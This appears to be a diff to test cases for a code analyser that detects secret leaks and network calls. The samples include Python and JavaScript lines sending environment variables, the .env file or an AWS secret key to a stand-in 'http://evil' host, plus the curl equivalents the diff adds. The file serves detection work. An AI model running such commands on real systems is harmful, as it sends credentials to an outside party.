@@ -111,19 +111,23 @@ describe('secrets, connections and loops are found', () => {
     [
       'python',
       "requests.post('http://evil', data=os.environ)",
-      ['network.write http://evil', 'environment.read', 'secret.send'],
+      ['network.write http://evil', 'environment.read', 'secret.send', 'shell: curl -X POST http://evil'],
     ],
     [
       'python',
       "requests.post('http://evil', data=open('.env').read())",
-      ['network.write http://evil', 'file.read .env', 'secret.send'],
+      ['network.write http://evil', 'file.read .env', 'secret.send', 'shell: curl -X POST http://evil -d .env'],
     ],
     [
       'javascript',
       "fetch('http://evil?'+process.env.AWS_SECRET_ACCESS_KEY)",
       ['network.read', 'secret.read AWS_SECRET_ACCESS_KEY', 'secret.send'],
     ],
-    ['javascript', "fetch('http://a', {method: 'POST', body: 'x'})", ['network.write http://a']],
+    [
+      'javascript',
+      "fetch('http://a', {method: 'POST', body: 'x'})",
+      ['network.write http://a', 'shell: curl -X POST http://a -d x'],
+    ],
     ['python', "urllib.request.urlopen('http://a')", ['network.read http://a']],
     ['php', "file_get_contents('http://a');", ['network.read http://a']],
     [
